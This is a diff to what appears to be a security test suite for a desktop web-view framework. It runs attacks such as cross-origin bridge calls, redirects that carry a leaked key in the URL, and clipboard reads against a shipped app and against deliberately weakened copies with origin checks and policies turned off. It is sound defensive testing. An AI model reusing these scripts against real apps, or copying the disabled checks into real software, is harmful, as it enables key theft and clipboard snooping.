@@ -1,7 +1,8 @@
-// Attacks in real windows: frames, redirects, injected scripts. Each runs in two apps: one as it would be
-// shipped, and one whose bridge gives its key away and whose page has no policy, where it must succeed.
+// Attacks in real windows: frames, redirects, injected scripts. Each runs in two apps: one as it would be shipped, and
+// one without the rule, where it must succeed.
 
 import { afterAll, expect } from "bun:test";
+import { chmodSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { tempDir } from "../support/temp-dir.ts";
 import { onDisplay, root, shareSession, startDisplayApp, type DisplayApp } from "../support/display-app.ts";
@@ -39,20 +40,43 @@ Ui.prototype.call = function (name, args) {
 export { default } from ${JSON.stringify(join(root, "test/fixtures/display-app/main.ts"))};
 `;
 
+/** The same, and whoever has a key may use it, wherever it comes from. */
+const unguardedMain = `
+import { Origins } from ${JSON.stringify(join(root, "src/app/origins.ts"))};
+Origins.prototype.check = () => {};
+${leakyMain}`;
+
+/** Runs an app with a ui thread without rules, in place of Bun. */
+const programs = tempDir({
+  "unguarded-bun": `#!/bin/sh
+exec ${process.execPath} --preload=${join(root, "test/fixtures/unguarded-ui.ts")} "$@"\n`,
+});
+const runner = join(programs.path, "unguarded-bun");
+chmodSync(runner, 0o755);
+afterAll(() => programs[Symbol.dispose]());
+
+/** As it is shipped; with a bridge that gives its key away, and pages without a policy; without any wall. */
+type Kind = "shipped" | "leaky" | "unguarded";
+
 const allowlist = { protocol: { asset: true, assetScope: [`${files.path}/**`] } };
 const shared = shareSession();
-const apps = new Map<boolean, Promise<DisplayApp>>();
+const apps = new Map<Kind, Promise<DisplayApp>>();
 
 /** One app of each kind, started when the first attack wants it. */
-function appOf(isWeak: boolean): Promise<DisplayApp> {
+function appOf(kind: Kind): Promise<DisplayApp> {
+  const build = { devPath: "../page", distDir: "../page", withGlobalFramework: true };
   const started =
-    apps.get(isWeak) ??
+    apps.get(kind) ??
     startDisplayApp(shared.session, {
       windows: ["main", "second"],
-      config: { framework: { allowlist, security: isWeak ? {} : { csp, freezePrototype: true } } },
-      files: isWeak ? { "src-framework/main.ts": leakyMain } : {},
+      config: {
+        build: kind === "unguarded" ? { ...build, runner } : build,
+        framework: { allowlist, security: kind === "shipped" ? { csp, freezePrototype: true } : {} },
+      },
+      files:
+        kind === "shipped" ? {} : { "src-framework/main.ts": kind === "leaky" ? leakyMain : unguardedMain },
     });
-  apps.set(isWeak, started);
+  apps.set(kind, started);
   return started;
 }
 afterAll(async () => {
@@ -60,10 +84,10 @@ afterAll(async () => {
 });
 
 /** An attack by a script in the page: `true` when it got through. */
-function attack(name: string, run: (app: DisplayApp) => Promise<unknown>): void {
-  onDisplay(`${name}: it is refused`, async () => expect(await run(await appOf(false))).toBe(false));
+function attack(name: string, run: (app: DisplayApp) => Promise<unknown>, weak: Kind = "leaky"): void {
+  onDisplay(`${name}: it is refused`, async () => expect(await run(await appOf("shipped"))).toBe(false));
   onDisplay(`${name}: without the rule it succeeds`, async () =>
-    expect(await run(await appOf(true))).toBe(true),
+    expect(await run(await appOf(weak))).toBe(true),
   );
 }
 
@@ -191,7 +215,7 @@ const byLeaving = (go: string) => async (app: DisplayApp) => {
     const attempt = async () => [
       typeof window.__FRAMEWORK__ !== "undefined" || typeof window.__FRAMEWORK_BRIDGE__ !== "undefined",
       await (async () => window.webkit.messageHandlers.framework.postMessage(key + call))().then((text) => text.includes("got through"), () => false),
-    ];
+    ].includes(true);
     onload = () => setTimeout(async () => { await fetch("/", { method: "POST", body: JSON.stringify(await attempt()) }); history.back(); });`;
   await using server = serve(`<!doctype html><script>${script}</script>`, resolve);
   const opened = app.pageCount("second");
@@ -204,20 +228,16 @@ const byLeaving = (go: string) => async (app: DisplayApp) => {
   return report;
 };
 
-// The key is the document's: even the one that is given away opens nothing for the next document. So what
-// shows that the attack can succeed is the same call from the page the key belongs to.
 for (const [what, go] of [
   ["is sent to", "location.href = server + '#key=' + key"],
   ["is redirected to", "location.href = server + 'away#key=' + key"],
 ] as const) {
-  for (const isWeak of [false, true]) {
-    onDisplay(
-      `CVE-2023-31134: another site that a window ${what} calls nothing${isWeak ? ", with the key of the page before" : ""}`,
-      async () => {
-        expect(await byLeaving(go)(await appOf(isWeak))).toEqual([false, false]);
-      },
-    );
-  }
+  attack(`CVE-2023-31134: another site that a window ${what} calls the app`, byLeaving(go), "unguarded");
+  // The key is the document's: even the one that is given away opens nothing for the next document.
+  onDisplay(
+    `CVE-2023-31134: another site that a window ${what} calls nothing with the key of the page before`,
+    async () => expect(await byLeaving(go)(await appOf("leaky"))).toBe(false),
+  );
 }
 
 const callWith = (key: string) => `
@@ -230,7 +250,7 @@ attack(
 );
 
 onDisplay("the key of a page that was loaded anew is worth nothing", async () => {
-  const app = await appOf(true);
+  const app = await appOf("leaky");
   const key = await app.page().run("return window.leaked");
   await app.page().reload();
   expect(await app.page().run(callWith("args[0]"), key)).toBe(false);
@@ -288,22 +308,37 @@ attack(
     return got;`),
 );
 
-onDisplay("TRI-032: a page reads the clipboard by the engine's own ways: nothing comes", async () => {
-  const code = `
-    const read = navigator.clipboard?.readText?.bind(navigator.clipboard) ?? (async () => Promise.reject());
-    return [document.execCommand("paste"), await read().then(() => "read", () => "refused")];`;
-  expect(await (await appOf(false)).page().run(code)).toEqual([false, "refused"]);
-});
+attack(
+  "TRI-032: a page reads the clipboard by the engine's own ways",
+  async (app) => {
+    const file = join(app.session.folder, "copied.txt");
+    writeFileSync(file, "the secret");
+    const program = join(root, "test/fixtures/clipboard-program.ts");
+    await using copying = app.session.start([process.execPath, program, "copy", file]);
+    await copying.line("copied");
+    const code = `
+      const field = document.createElement("textarea");
+      document.body.append(field);
+      field.focus();
+      document.execCommand("paste");
+      const read = async () => navigator.clipboard.readText();
+      const got = [field.value, await read().catch(() => "")];
+      field.remove();
+      return got.includes("the secret");`;
+    return await app.page().run(code);
+  },
+  "unguarded",
+);
 
 onDisplay("a page opens windows by the app alone", async () => {
-  expect(await (await appOf(false)).page().run(`return window.open("/") === null`)).toBe(true);
+  expect(await (await appOf("shipped")).page().run(`return window.open("/") === null`)).toBe(true);
 });
 
 onDisplay("the nonces of a page cannot be read from its markup", async () => {
   const code = `
     const [script] = document.querySelectorAll("script");
     return [script.getAttribute("nonce"), script.nonce.length, document.documentElement.outerHTML.includes(script.nonce)]`;
-  expect(await (await appOf(false)).page().run(code)).toEqual(["", 24, false]);
+  expect(await (await appOf("shipped")).page().run(code)).toEqual(["", 24, false]);
 });
 
 attack("TRI-006: a script from another site is loaded", async (app) => {
